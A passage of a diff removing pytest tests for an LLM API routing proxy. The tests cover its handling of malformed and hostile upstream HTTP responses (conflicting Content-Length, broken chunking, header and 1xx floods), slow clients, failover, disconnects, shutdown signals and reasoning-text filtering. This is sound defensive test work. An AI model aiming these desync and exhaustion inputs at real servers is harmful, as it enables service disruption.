-    """Send a request that never ends, all but its last bytes at once."""
-    body = len(data) - 40 if pause else len(data)
-    steps: list[bytes | float] = [data[:body]]
-    for byte in data[body:]:
-        steps += [pause, bytes([byte])]
-    return raw(port, *steps, answers=0, patience=60)
-
-
-@pytest.fixture(scope="module", autouse=True)
-def dawdlers() -> Iterator[dict[str, concurrent.futures.Future[bytes]]]:
-    """Clients that are slow from the first test on; the last test looks at them."""
-    pool = concurrent.futures.ThreadPoolExecutor(len(LATE))
-    port = shared().port
-    yield {name: pool.submit(dawdle, port, *late) for name, late in LATE.items()}
-    pool.shutdown(wait=False, cancel_futures=True)
-
-
-# == 3. Upstreams that are not HTTP ================================================
-
-
 def ended_badly(got: Answer) -> bool:
     """A 502, a visible cut or an error event; never a clean end."""
     last = got.events[-1] if got.events else b""
     return got.status == 502 or not got.whole or b'"error"' in last
 
 
-def upstream_head(lines: bytes, content: bytes = b"{}") -> list[Step]:
-    """An answer with these field lines, then the end of the connection."""
-    return [b"HTTP/1.1 200 OK\r\n" + lines + b"\r\n\r\n" + content, CLOSE]
-
-
-def broken_stream(*tail: Step) -> list[Step]:
-    """A stream that begins well."""
-    first = event(completion_events({}, "Hello")[1])
-    return [*stream_answer([first], whole=False), 0.02, *tail]
-
-
-HOSTILE: dict[str, list[Step]] = {
-    "two lengths": upstream_head(b"Content-Length: 2\r\nContent-Length: 3"),
-    "one length twice": upstream_head(b"Content-Length: 2\r\nContent-Length: 2"),
-    "list of lengths": upstream_head(b"Content-Length: 2, 2"),
-    "signed length": upstream_head(b"Content-Length: +2"),
-    "length with underscore": upstream_head(b"Content-Length: 0_2"),
-    "length and coding": upstream_head(b"Content-Length: 2\r\n" + CODED),
-    "gzip as a transfer coding": upstream_head(b"Transfer-Encoding: gzip, chunked"),
-    "bad chunk-size": upstream_head(CODED, b"zz\r\n{}\r\n0\r\n\r\n"),
-    "signed chunk-size": upstream_head(CODED, b"+2\r\n{}\r\n0\r\n\r\n"),
-    "bad end of a chunk": upstream_head(CODED, b"2\r\n{}XX0\r\n\r\n"),
-    "bare LF in a chunk line": upstream_head(CODED, b"2\n{}\r\n0\r\n\r\n"),
-    "no last chunk": upstream_head(CODED, b"2\r\n{}\r\n"),
-    "no end of the trailers": upstream_head(CODED, b"2\r\n{}\r\n0\r\n"),
-    "endless trailers": upstream_head(CODED, b"2\r\n{}\r\n0\r\n" + b"A: b\r\n" * 9999),
-    "content cut short": upstream_head(b"Content-Length: 9"),
-    "content reset": [*upstream_head(b"Content-Length: 9")[:1], DROP],
-    "no content": upstream_head(b"Content-Length: 9", b""),
-    "no answer": [CLOSE],
-    "reset": [DROP],
-    "half a status line": [b"HTTP/1.", CLOSE],
-    "half a head": [b"HTTP/1.1 200 OK\r\nContent-Le", CLOSE],
-    "head without its end": [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n", CLOSE],
-    "unasked 101": [
-        b"HTTP/1.1 101 Fine\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n", CLOSE],
-    "flood of 1xx": [b"HTTP/1.1 100 Continue\r\n\r\n" * 51, *FINE],
-    "endless 1xx": [b"HTTP/1.1 103 Hints\r\n\r\n" * 5000, *FINE],
-    "endless field": [b"HTTP/1.1 200 OK\r\nA: " + b"b" * 200_000, CLOSE],
-    "endless fields": [b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 20_000, CLOSE],
-    "too many fields": upstream_head(b"A: b\r\n" * 129 + b"Content-Length: 2"),
-    "endless status line": [b"HTTP/1.1 200 " + b"O" * 200_000, CLOSE],
-    "HTTP/0.9": [b"<html>it works</html>\n", CLOSE],
-    "noise": [bytes(range(256)) * 9, CLOSE],
-    "noise with an end": [b"noise\r\n\r\n", CLOSE],
-    "TLS alert": [b"\x15\x03\x03\x00\x02\x02\x28", CLOSE],
-    "status of two digits": [b"HTTP/1.1 20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "status of four digits": [
-        b"HTTP/1.1 2000 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "status of letters": [b"HTTP/1.1 abc OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "signed status": [b"HTTP/1.1 +20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "another protocol": [b"ICY 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "HTTP/2": [b"HTTP/2 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
-    "bare LF": [b"HTTP/1.1 200 OK\nContent-Length: 2\n\n{}", CLOSE],
-    "NUL in a field": upstream_head(b"A: \0\r\nContent-Length: 2"),
-    "bare CR in a field": upstream_head(b"A: b\rC: d\r\nContent-Length: 2"),
-    "space before the colon": upstream_head(b"Content-Length : 2"),
-    "line without a colon": upstream_head(b"nonsense\r\nContent-Length: 2"),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("stream", [False, True])
-@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
-@pytest.mark.parametrize("name", HOSTILE)
-def test_hostile_answer(name: str, path: str, stream: bool) -> None:
-    model = stage().plays(HOSTILE[name])
-    got = request(shared().port, "POST", path, chat(model, stream=stream))
-    assert ended_badly(got), got
-    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
-    if got.status == 502:
-        assert got.json["error"]
-    assert request(shared().port, "GET", "/v1/fine").status == 200
-
-
-BROKEN_STREAMS: dict[str, list[Step]] = {
-    "bad chunk-size": broken_stream(b"zz\r\n"),
-    "bad end of a chunk": broken_stream(b"2\r\n: XX", CLOSE),
-    "closed": broken_stream(CLOSE),
-    "reset": broken_stream(DROP),
-    "closed in a chunk": broken_stream(b"ff\r\ndata: {", CLOSE),
-    "closed in the last chunk": broken_stream(b"0\r\n", CLOSE),
-    "bytes fewer than the length": [
-        head(200, [("Content-Type", "text/event-stream"), ("Content-Length", "9999")]),
-        event(completion_events({}, "Hello")[1]), CLOSE],
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
-@pytest.mark.parametrize("name", BROKEN_STREAMS)
-def test_broken_stream_ends_in_an_error_of_its_dialect(name: str, path: str) -> None:
-    model = stage().plays(BROKEN_STREAMS[name])
-    got = request(shared().port, "POST", path, {**ASKS[path], "model": model, "stream": True})
-    assert got.status == 200
-    assert b"Hello" in got.content
-    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
-    last = got.documents[-1]
-    if path.startswith("/v1"):
-        assert last["error"]["message"]
-    else:
-        assert isinstance(last["error"], str)
-
-
-def test_a_few_interim_answers_are_fine() -> None:
-    hints = b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"
-    model = stage().plays([b"HTTP/1.1 100 Continue\r\n\r\n" + hints * 3, *FINE])
-    assert ask(shared(), model).json == {"fine": True}
-
-
-def test_head_of_an_answer_in_pieces() -> None:
-    whole = json_answer({"fine": True})[0]
-    model = stage().plays([s for b in whole for s in (bytes([b]), 0.001)])
-    assert ask(shared(), model).json == {"fine": True}
-
-
-def test_folded_field_of_an_answer_does_not_travel() -> None:
-    steps = [b"HTTP/1.1 200 OK\r\nA: b\r\n c\r\nContent-Length: 2\r\n\r\n{}", CLOSE]
-    data = raw(shared().port, post(CHAT, chat(stage().plays(steps))))
-    assert b"\r\n " not in data.partition(b"\r\n\r\n")[0]
-
-
-def test_junk_after_the_end_reaches_nobody() -> None:
-    model = stage().plays([json_answer({"n": 1})[0] + POISON, 0.05, POISON])
-    for _ in range(3):
-        data = raw(shared().port, post(CHAT, chat(model)))
-        assert parse(data).json == {"n": 1}
-        assert b"poisoned" not in data
-
-
-# == 4. Failover ===================================================================
-
-ALL_WAYS = [
-    (path, stream)
-    for path in ASKS
-    for stream in ([False] if "embed" in path or "rerank" in path else [False, True])
-]
-
-
-def asking(path: str, model: str, stream: bool) -> dict[str, Any]:
-    """The document of a request to this endpoint."""
-    told = {"stream": stream} if (path, True) in ALL_WAYS else {}
-    return {**ASKS[path], "model": model, **told}
-
-
-HELD: list[socket.socket] = []  # ports that stay taken
-
-
-def refusing() -> str:
-    """The URL of a port where nobody listens."""
-    HELD.append(socket.socket())
-    HELD[-1].bind(("127.0.0.1", 0))
-    return f"http://127.0.0.1:{HELD[-1].getsockname()[1]}"
-
-
-def unreachable() -> str:
-    """The URL of a port that does not answer, as of a box that is switched off."""
-    listener = socket.create_server(("127.0.0.1", 0), backlog=0)
-    HELD.append(listener)
-    for _ in range(4):  # fill its queue
-        HELD.append(socket.socket())
-        HELD[-1].setblocking(False)
-        HELD[-1].connect_ex(listener.getsockname())
-    return f"http://127.0.0.1:{listener.getsockname()[1]}"
-
-
-def playing(*steps: Step) -> Callable[[], str]:
-    """The URL of a new upstream that always says this."""
-    return lambda: Upstream(lambda received: steps).url
-
-
-def busy(status: int, *fields: tuple[str, str]) -> Callable[[], str]:
-    """The URL of a new upstream that always answers this status."""
-    return playing(*json_answer({"error": {"message": f"no: {status}"}}, status, fields))
-
-
-FAILURES: dict[str, Callable[[], str]] = {
-    "refused": refusing,
-    "connect timeout": unreachable,
-    "no TLS": lambda: Upstream().url.replace("http:", "https:"),
-    "400": busy(400),
-    "404": busy(404),
-    "429": busy(429, ("Retry-After", "1")),
-    "500": busy(500),
-    "503": busy(503),
-    "late head": playing(HANG),
-    "reset": playing(DROP),
-    "closed": playing(CLOSE),
-    "half a head": playing(b"HTTP/1.1 200 OK\r\nContent-", CLOSE),
-    "noise": playing(b"SSH-2.0-OpenSSH_9.6\r\n\r\n", CLOSE),
-    "two lengths": playing(*upstream_head(b"Content-Length: 2\r\nContent-Length: 3")),
-    "head and no content": playing(*upstream_head(b"Content-Length: 9", b"")),
-    "head and no chunk": playing(*upstream_head(CODED, b"")),
-    "bad first chunk": playing(*upstream_head(CODED, b"zz\r\n")),
-    "empty content": playing(*answer(b"")),
-    "empty stream": playing(*stream_answer([])),
-}
-OTHERS: dict[str, Callable[[], str]] = {
-    "sound": lambda: Upstream().url,
-    "half a stream": playing(*broken_stream(DROP)),
-    "half a content": playing(*upstream_head(b"Content-Length: 99", b'{"Hello": "')),
-}
-
-NOBODY: dict[str, tuple[tuple[str, ...], int, str]] = {
-    "refused once": (("refused",), 502, "refused"),
-    "late": (("late head",), 504, "2 s (REQUEST_TIMEOUT)"),
-    "unreachable": (("connect timeout",), 504, "0.5 s (CONNECT_TIMEOUT)"),
-    "refused twice": (("refused", "refused"), 502, "refused"),
-    "late, refused": (("late head", "refused"), 502, "2 s (REQUEST_TIMEOUT)"),
-    "refused, late": (("refused", "late head"), 504, "2 s (REQUEST_TIMEOUT)"),
-    "refused, unreachable": (
-        ("refused", "connect timeout"), 504, "0.5 s (CONNECT_TIMEOUT)"),
-    "refused, reset": (("refused", "reset"), 502, "refused"),
-    "refused, noise": (("refused", "noise"), 502, "refused"),
-}  # fmt: skip
-
-ALIASES: dict[str, tuple[str, ...]] = {
-    **{failure: (failure, "sound") for failure in FAILURES},
-    **{nobody: failures for nobody, (failures, _, _) in NOBODY.items()},
-    "half a stream": ("half a stream", "sound"),
-    "half a content": ("half a content", "sound"),
-}
-
-
-@functools.lru_cache
-def troubled() -> Router:
-    """A router with an alias `{name} {way}` for each of ALIASES and of ALL_WAYS.
-
-    Each has servers of its own, which are paths of the same ports: none is cooling
-    for what happened in another test.
-    """
-    urls = {kind: make() for kind, make in {**FAILURES, **OTHERS}.items()}
-    servers = {"sound": urls["sound"]}
-    aliases = {}
-    for name, way in itertools.product(ALIASES, range(len(ALL_WAYS))):
-        instances = []
-        for turn, kind in enumerate(ALIASES[name]):
-            server = "sound" if kind == "sound" else f"{name} {way} {turn}"
-            servers.setdefault(server, f"{urls[kind]}/{len(servers)}")
-            instances.append({"server": server, "model": kind})
-        aliases[f"{name} {way}"] = {"instances": instances}
-    settings = {"CONNECT_TIMEOUT": 0.5, "REQUEST_TIMEOUT": 2}
-    return router_for(settings, {"servers": servers, "aliases": aliases})
-
-
-def ask_troubled(name: str, way: int) -> Answer:
-    """Ask one of the aliases of `troubled()` in one of the ways."""
-    path, stream = ALL_WAYS[way]
-    document = asking(path, f"{name} {way}", stream)
-    return request(troubled().port, "POST", path, document)
-
-
-def in_all_ways(name: str) -> list[tuple[str, bool, Answer]]:
-    """Each way, and what was answered to it; asked all at once."""
-    assert troubled().port  # started before the threads are
-    ways = range(len(ALL_WAYS))
-    answers = at_once(ask_troubled, [name] * len(ways), ways, workers=len(ways))
-    return [(*way, got) for way, got in zip(ALL_WAYS, answers, strict=True)]
-
-
-@pytest.mark.parametrize("failure", FAILURES)
-def test_failover(failure: str) -> None:
-    for path, stream, got in in_all_ways(failure):
-        assert (got.status, got.whole) == (200, True), (path, stream, got)
-        assert got.get("X-SmolRouter-Attempts") == "2", (path, stream, got)
-        assert got.get("X-SmolRouter-Model") == "sound"
-        if (path, True) in ALL_WAYS:
-            assert got.text == "You said: hi", (path, stream, got)
-
-
-def test_nobody_answered() -> None:
-    assert troubled().port
-    ways = [ALL_WAYS.index((CHAT, True)), ALL_WAYS.index(("/api/chat", False))]
-    asked = list(itertools.product(NOBODY, ways))
-    answers = at_once(ask_troubled, *zip(*asked, strict=True), workers=len(asked))
-    for (name, way), got in zip(asked, answers, strict=True):
-        failures, status, reason = NOBODY[name]
-        assert (name, got.status) == (name, status), got
-        error = got.json["error"]
-        if way == ways[0]:
-            assert set(error) == {"message", "type", "code", "param"}
-            error = error["message"]
-        assert reason in error
-        for turn, kind in enumerate(failures):  # each attempt is named
-            assert f"{name} {way} {turn}/{kind}" in error
-
-
-def test_never_a_second_answer_after_a_first_byte() -> None:
-    for path, stream, got in in_all_ways("half a stream"):
-        if stream:
-            assert b"Hello" in got.content and b"You said" not in got.content, path
-            assert got.documents[-1]["error"]
-            assert b"[DONE]" not in got.content and b'"done":true' not in got.content
-
-
-def test_never_half_an_answer_and_a_whole_one() -> None:
-    for path, stream, got in in_all_ways("half a content"):
-        assert not (b"Hello" in got.content and b"You said" in got.content), path
-        assert ended_badly(got) or (got.status, got.whole) == (200, True), (
-            path,
-            stream,
-        )
-
-
-def both(first: str, second: str, **settings: Any) -> Router:
-    """A router whose alias `pair` has two instances."""
-    aliases = {"pair": {"instances": ["one/m", "two/m"]}}
-    return Router(settings, {"servers": {"one": first, "two": second}, "aliases": aliases})
-
-
-@pytest.mark.parametrize("stream", [False, True])
-def test_last_answer_passes_through_byte_for_byte(stream: bool) -> None:
-    content = '{ "error" : {"message":"später", "code" : 4.290 } }\n'.encode()
-    fields = [("Retry-After", "17"), ("X-Odd", "a;b")]
-    last = playing(*answer(content, 429, fields, "application/json; charset=utf-8"))
-    with both(busy(503)(), last()) as router:
-        got = ask(router, "pair", stream=stream)
-    assert (got.status, got.content) == (429, content)
-    assert (got.get("Retry-After"), got.get("X-Odd")) == ("17", "a;b")
-    assert got.get("Content-Type") == "application/json; charset=utf-8"
-
-
-def test_last_answer_is_the_last_one_that_was_http() -> None:
-    with both(busy(418, ("Retry-After", "5"))(), refusing()) as router:
-        got = ask(router, "pair")
-        assert (got.status, got.get("Retry-After")) == (418, "5")
-        assert got.json == {"error": {"message": "no: 418"}}
-        document = asking("/api/chat", "pair", True)
-        got = request(router.port, "POST", "/api/chat", document)
-        assert (got.status, got.get("Retry-After")) == (418, "5")
-        assert got.json["error"]
-
-
-SHORT_STREAMS = {
-    "no empty line": chunked(b'data: {"choices":[]}\n'),
-    "closed": (b"data: [DONE]\n", CLOSE),
-    "CR alone": chunked(b"data: [DONE]\r\r"),
-    "gzip": chunked(gzip.compress(event({"choices": []}))),
-}
-
-
-@pytest.mark.parametrize("name", SHORT_STREAMS)
-def test_a_short_stream_with_a_clean_end_is_an_answer(name: str) -> None:
-    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
-    fields = fields[: 1 if name == "closed" else 2]
-    fields += [("Content-Encoding", "gzip")] * (name == "gzip")
-    first = playing(head(200, fields), *SHORT_STREAMS[name])()
-    with both(first, refusing()) as router:
-        got = ask(router, "pair", stream=True)
-        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "1")
-        assert got.content
-
-
-def test_thinking_goes_however_deep_the_rest_is() -> None:
-    said = dumps(completion({}, "<think>secret</think>ok"))[:-1]
-    said += b',"x":' + b"[" * 250 + b"]" * 250 + b"}"
-    name = stage().plays(answer(said, kind="application/json"))
-    for path in (CHAT, "/api/chat"):
-        got = request(shared().port, "POST", path, {**asking(path, name, False)})
-        assert got.status == 200 and b"secret" not in got.content and b"ok" in got.content
-
-
-@pytest.mark.parametrize("number", [3, 30])
-def test_a_stream_may_end_with_comments(number: int) -> None:
-    name = stage().plays(until_close(*map(event, [*WORDS, ENDED]), b": ping\n\n" * number))
-    got = ask(shared(), name, stream=True)
-    assert (got.status, got.text) == (200, "one two") and b"error" not in got.content
-
-
-@pytest.mark.parametrize(
-    "message",
-    [
-        {"role": "tool", "tool_name": ["x"], "content": "y"},
-        {"role": "assistant", "tool_calls": [{"function": {"name": {"a": 1}}}]},
-    ],
-    ids=["result", "call"],
-)
-def test_a_tool_name_that_is_none_is_told(message: dict[str, Any]) -> None:
-    got = request(shared().port, "POST", "/api/chat", {"model": "tiny", "messages": [message]})
-    assert got.status == 400 and "messages[0]" in got.json["error"] and "name" in got.json["error"]
-
-
-@pytest.mark.parametrize("said", [b'data: {"id', b": hi\n", b"\n"])
-def test_a_part_of_an_event_is_no_answer(said: bytes) -> None:
-    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
-    first = playing(head(200, fields), *chunked(said))()
-    with both(first, playing(*sse_answer([ENDED, "[DONE]"]))()) as router:
-        got = ask(router, "pair", stream=True)
-        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "2")
-
-
-@pytest.mark.parametrize("status", [301, 400, 404, 418, 422, 429, 500, 503])
-@pytest.mark.parametrize("stream", [False, True])
-def test_single_candidate_passes_through_untouched(status: int, stream: bool) -> None:
-    content = b'{"detail" :  "<think>what it said</think>"}\n'
-    fields = [("Retry-After", "3"), ("Location", "/elsewhere")]
-    model = stage().plays(answer(content, status, fields, "application/json"))
-    for turn in (1, 2):  # and it is never excluded
-        got = ask(shared(), model, stream=stream)
-        assert (got.status, got.content) == (status, content)
-        assert got.get("Retry-After") == "3"
-        assert len(stage().heard(model)) == turn
-
-
-class Moody(Upstream):
-    """An upstream that answers as its `mood` says."""
-
-    def __init__(self) -> None:
-        self.mood: Iterable[Step] = FINE
-        super().__init__(lambda received: self.mood)
-
-    @property
-    def asked(self) -> int:
-        return len(self.heard('"m"'))
-
-
-@contextlib.contextmanager
-def moody_pair(strategy: str = "failover", **settings: Any) -> Iterator[tuple]:
-    """Two upstreams of changing moods, behind the alias `pair`."""
-    with Moody() as one, Moody() as two:
-        routes = {
-            "servers": {"one": one.url, "two": two.url},
-            "aliases": {"pair": {"strategy": strategy, "instances": ["one/m", "two/m"]}},
-        }
-        with Router(settings, routes) as router:
-            yield router, one, two
-
-
-@pytest.mark.parametrize("status, cools", [(429, 1), (503, 1), (500, 0), (404, 0)])
-def test_cool_down_after_429_and_503_only(status: int, cools: int) -> None:
-    with moody_pair() as (router, one, two):
-        one.mood = json_answer({}, status)
-        assert ask(router, "pair").status == 200
-        one.mood = FINE
-        assert ask(router, "pair").status == 200
-        assert (one.asked, two.asked) == ((1, 2) if cools else (2, 1))
-
-
-def test_a_cooling_instance_is_the_last_hope() -> None:
-    with moody_pair() as (router, one, two):
-        one.mood = [DROP]
-        assert ask(router, "pair").status == 200
-        one.mood, two.mood = FINE, json_answer({}, 500)
-        assert ask(router, "pair").status == 200
-        assert (one.asked, two.asked) == (2, 2)
-        two.mood = FINE
-        assert ask(router, "pair").status == 200  # its success has cleared it
-        assert (one.asked, two.asked) == (3, 2)
-
-
-def test_retry_after_sets_the_cool_down() -> None:
-    with moody_pair() as (router, one, _):
-        one.mood = json_answer({}, 429, [("Retry-After", "1")])
-        assert ask(router, "pair").status == 200
-        one.mood = FINE
-        assert until(lambda: ask(router, "pair").status == 200 and one.asked > 1)
-
-
-def test_round_robin_takes_turns() -> None:
-    with moody_pair("round_robin") as (router, one, two):
-        for _ in range(6):
-            assert ask(router, "pair").status == 200
-            assert abs(one.asked - two.asked) <= 1
-        assert (one.asked, two.asked) == (3, 3)
-        one.mood = json_answer({}, 500)
-        for _ in range(4):
-            assert ask(router, "pair").status == 200
-
-
-def test_least_busy_takes_the_idle_one() -> None:
-    gate = threading.Event()
-
-    def slow() -> Iterator[Step]:
-        gate.wait(PATIENCE)
-        yield from FINE
-
-    with (
-        moody_pair("least_busy") as (router, one, two),
-        concurrent.futures.ThreadPoolExecutor(4) as pool,
-    ):
-        one.script = two.script = lambda received: slow()
-        asked = []
-        for _ in range(4):
-            asked.append(pool.submit(ask, router, "pair"))
-            assert until(lambda: one.asked + two.asked == len(asked))
-            assert abs(one.asked - two.asked) <= 1
-        gate.set()
-        assert [a.result().status for a in asked] == [200] * 4
-
-
-# == 5. Leaving and dying ==========================================================
-
-
-def endless(received: Received) -> Iterator[Step]:
-    """Events for as long as somebody listens."""
-    yield from stream_answer([], whole=False)
-    for _ in range(int(PATIENCE / 0.01)):
-        yield from chunked(event(completion_events({}, "word ")[1]), end=b"")
-        yield 0.01
-
-
-LEAVING: dict[str, tuple[str, dict[str, Any], Script | list[Step]]] = {
-    "chat, waiting": (CHAT, ASKS[CHAT], [HANG]),
-    "chat, waiting for a stream": (CHAT, {**ASKS[CHAT], "stream": True}, [HANG]),
-    "chat, in a stream": (CHAT, {**ASKS[CHAT], "stream": True}, endless),
-    "chat, in a silent stream": (
-        CHAT, {**ASKS[CHAT], "stream": True}, broken_stream(HANG)),
-    "chat, in a content": (
-        CHAT, ASKS[CHAT], [head(200, [("Content-Length", "99")]) + b"{", HANG]),
-    "completion, waiting": ("/v1/completions", {"prompt": "hi"}, [HANG]),
-    "embeddings, waiting": ("/v1/embeddings", {"input": "hi"}, [HANG]),
-    "Ollama chat, waiting": ("/api/chat", ASKS["/api/chat"], [HANG]),
-    "Ollama chat, not streamed": (
-        "/api/chat", {**ASKS["/api/chat"], "stream": False}, [HANG]),
-    "Ollama chat, in a stream": ("/api/chat", ASKS["/api/chat"], endless),
-    "Ollama generate, in a silent stream": (
-        "/api/generate", {"prompt": "hi"}, broken_stream(HANG)),
-    "anything else, waiting": ("/v1/rerank", {"query": "hi"}, [HANG]),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("pipelined", [False, True])
-@pytest.mark.parametrize("name", LEAVING)
-def test_client_leaves(name: str, pipelined: bool) -> None:
-    path, document, script = LEAVING[name]
-    model = stage().plays(script)
-    with connect(shared().port) as sock:
-        sock.sendall(post(path, {**document, "model": model}))
-        seen = stage().connection_of(model)
-        if script is endless:
-            receive_until(sock, b"word")
-        if pipelined:
-            sock.sendall(get("/v1/never"))
-        time.sleep(0.02)
-        left = time.monotonic()
-    assert until(lambda: seen.closed)
-    print(f"{name}: closed after {(seen.closed - left) * 1000:.1f} ms")
-    assert seen.closed - left < 1.0
-    assert request(shared().port, "GET", "/v1/fine").status == 200
-
-
-def test_client_leaves_with_a_reset() -> None:
-    model = stage().plays([HANG])
-    sock = connect(shared().port)
-    sock.sendall(post(CHAT, chat(model)))
-    seen = stage().connection_of(model)
-    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
-    sock.close()
-    left = time.monotonic()
-    assert until(lambda: seen.closed)
-    assert seen.closed - left < 1.0
-
-
-def test_client_leaves_and_nobody_else_is_asked() -> None:
-    with (
-        Upstream(lambda r: [HANG]) as one,
-        Upstream() as two,
-        both(one.url, two.url) as router,
-    ):
-        with connect(router.port) as sock:
-            sock.sendall(post(CHAT, chat("pair")))
-            seen = one.connection_of("m")
-        assert until(lambda: seen.closed)
-        time.sleep(0.1)
-        assert not two.heard("m")
-
-
-def test_the_first_event_of_an_alias_does_not_wait_for_the_second() -> None:
-    """Failover looks at the first event; what it has seen must leave at once."""
-    gate = threading.Event()
-
-    def script(received: Received) -> Iterator[Step]:
-        yield from stream_answer([event(WORDS[0])], whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(event(WORDS[1]), event(ENDED))
-
-    with Upstream(script) as upstream:
-        instances = ["box/tiny", "box/spare"]
-        routes = {"servers": {"box": upstream.url}, "aliases": {"both": {"instances": instances}}}
-        with Router(routes=routes) as router, connect(router.port) as sock:
-            sock.sendall(post(CHAT, chat("both", stream=True)))
-            first = receive_until(sock, b"one")
-            gate.set()
-            rest = receive_until(sock, b"0\r\n\r\n")
-    assert b"two" not in first and b"two" in rest
-
-
-def test_a_slow_client_slows_its_upstream_and_nobody_else() -> None:
-    sent: list[int] = []
-    block = event({"choices": [{"index": 0, "delta": {"content": "x" * 65_000}}]})
-
-    def flood(received: Received) -> Iterator[Step]:
-        yield from stream_answer([], whole=False)
-        for number in range(4000):  # 260 MB
-            yield from chunked(block, end=b"")
-            sent.append(number)
-
-    model = stage().plays(flood)
-    with connect(shared().port) as sock:
-        sock.sendall(post(CHAT, chat(model, stream=True)))
-        assert until(lambda: len(sent) > 9)
-        count = -1
-        while count != len(sent):  # until it stands still
-            count = len(sent)
-            time.sleep(0.3)
-        print(f"stands still after {count * len(block) / 1e6:.0f} MB")
-        assert count < 1000
-        assert ask(shared(), "tiny").text == "You said: hi"
-        seen = stage().connection_of(model)
-        assert not seen.closed
-    assert until(lambda: seen.closed)
-
-
-def refuses(port: int) -> bool:
-    """Whether new connections are refused."""
-    try:
-        connect(port).close()
-    except ConnectionError:
-        return True
-    return False
-
-
-@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
-def test_signal_lets_running_answers_end(number: int) -> None:
-    gate = threading.Event()
-    events = [event(e) for e in completion_events({}, "to the end")]
-
-    def script(received: Received) -> Iterator[Step]:
-        yield from stream_answer(events[:2], whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(*events[2:])
-
-    with pair(script, SHUTDOWN_GRACE=60) as (router, _):
-        with connect(router.port) as sock, connect(router.port) as idle:
-            assert parse(exchange(idle, get("/healthz"))).status == 200
-            sock.sendall(post(CHAT, chat("tiny", stream=True)))
-            data = receive_until(sock, b"to ")
-            router.signal(number)
-            assert until(lambda: refuses(router.port))
-            gate.set()
-            got = parse(data + exchange(sock, answers=0))  # they are not waited for
-            assert idle.recv(1) == b""
-        assert (got.text, got.events[-1]) == ("to the end", b"[DONE]")
-        assert router.wait() == 0
-
-
-def test_sigterm_without_work_exits_at_once() -> None:
-    with pair(SHUTDOWN_GRACE=60) as (router, _):
-        assert ask(router, "tiny").status == 200
-        assert router.stop() == 0
-
-
-def test_grace_ends() -> None:
-    with (
-        pair(lambda r: [HANG], SHUTDOWN_GRACE=0.3) as (router, upstream),
-        connect(router.port) as sock,
-    ):
-        sock.sendall(post(CHAT, chat("tiny")))
-        seen = upstream.connection_of("tiny")
-        assert router.stop() == 0
-        assert until(lambda: seen.closed)
-
-
-def test_second_signal_ends_at_once() -> None:
-    with (
-        pair(lambda r: [HANG], SHUTDOWN_GRACE=60) as (router, upstream),
-        connect(router.port) as sock,
-    ):
-        sock.sendall(post(CHAT, chat("tiny")))
-        upstream.connection_of("tiny")
-        router.signal(signal.SIGTERM)
-        assert until(lambda: refuses(router.port))
-        assert router.process.poll() is None
-        router.signal(signal.SIGTERM)
-        router.wait()
-
-
-def test_upstream_leaves_between_two_requests_of_one_client() -> None:
-    with pair() as (router, upstream), connect(router.port) as sock:
-        assert parse(exchange(sock, get("/v1/one"))).status == 200
-        upstream.close()
-        upstream.script = lambda r: [DROP]
-        assert parse(exchange(sock, get("/v1/two"))).status == 502
-
-
-# == 6. Filters, end to end ========================================================
-
-
-def deltas(*texts: str, key: str = "content", index: int = 0) -> list[dict[str, Any]]:
-    """Stream events that carry these texts."""
-    return [{"id": "c", "choices": [{"index": index, "delta": {key: t}}]} for t in texts]
-
-
-def stream_of(*texts: str, escape: bool = False) -> list[bytes]:
-    """A whole chat stream with these texts as encoded events."""
-    role = {"id": "c", "choices": [{"index": 0, "delta": {"role": "assistant"}}]}
-    finish = {"index": 0, "delta": {}, "finish_reason": "stop"}
-    events = [role, *deltas(*texts), {"id": "c", "choices": [finish]}, "[DONE]"]
-    encoded = [event(e) for e in events]
-    if escape:
-        encoded = [e.replace(b"<", rb"\u003c").replace(b">", rb"\u003e") for e in encoded]
-    return encoded
-
-
-THINKING = ("<think>", "hidden\n", "</thi", "nk>", "\n\n", "Hé", " a < b <", "b> c")
-VISIBLE = "Hé a < b <b> c"
-
-
-@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
-@pytest.mark.parametrize("escape", [False, True])
-def test_thinking_at_every_split_of_the_stream(path: str, escape: bool) -> None:
-    data = b"".join(stream_of(*THINKING, escape=escape))
-    document = {**ASKS[path], "stream": True}
-
-    def split(at: int) -> tuple[str, bytes]:
-        pieces = [s for piece in cut(data, at) for s in (piece, 0.002)]
-        model = stage().plays(stream_answer(pieces))
-        got = request(shared().port, "POST", path, {**document, "model": model})
-        return got.text, got.content if path == CHAT else b""
-
-    seen = at_once(split, range(1, len(data), 1 if path == CHAT else 7))
-    assert {text for text, _ in seen} == {VISIBLE}
-    assert len({content for _, content in seen}) == 1
-
-
-def test_thinking_at_every_split_of_the_bytes_on_the_wire() -> None:
-    data = b"".join(s for s in sse_answer(stream_of(*THINKING)) if isinstance(s, bytes))
-
-    def split(at: int) -> str:
-        model = stage().plays([data[:at], 0.002, data[at:]])
-        return ask(shared(), model, stream=True).text
-
-    assert set(at_once(split, range(1, len(data), 2))) == {VISIBLE}
-
-
-def test_thinking_split_into_deltas_at_every_place() -> None:
